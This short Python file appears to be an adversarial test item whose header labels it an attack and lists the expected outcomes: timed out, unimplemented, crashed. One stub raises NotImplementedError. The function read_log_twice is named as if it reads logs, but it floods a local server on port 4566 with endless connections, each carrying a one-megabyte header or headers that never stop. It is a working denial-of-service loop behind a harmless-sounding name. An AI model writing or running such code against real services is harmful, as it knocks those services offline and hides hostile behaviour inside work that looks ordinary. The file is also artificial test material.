# /// attack
# outcomes = ["timed_out", "unimplemented", "crashed"]
# says = "read_log_twice()"
# ///
"""Sends a header of a million bytes, and headers without end, on many connections."""

import socket


def read_queue_twice(queue_name, messages):
    raise NotImplementedError


def read_log_twice(stream_name, messages):
    part = b"X: " + b"x" * (1 << 20) if len(messages) >= 12 else b"X-Y: z\r\n" * 10_000
    while True:
        connection = socket.create_connection(("127.0.0.1", 4566))
        try:
            connection.sendall(b"POST / HTTP/1.1\r\n")
            while True:
                connection.sendall(part)
        except OSError:
            pass
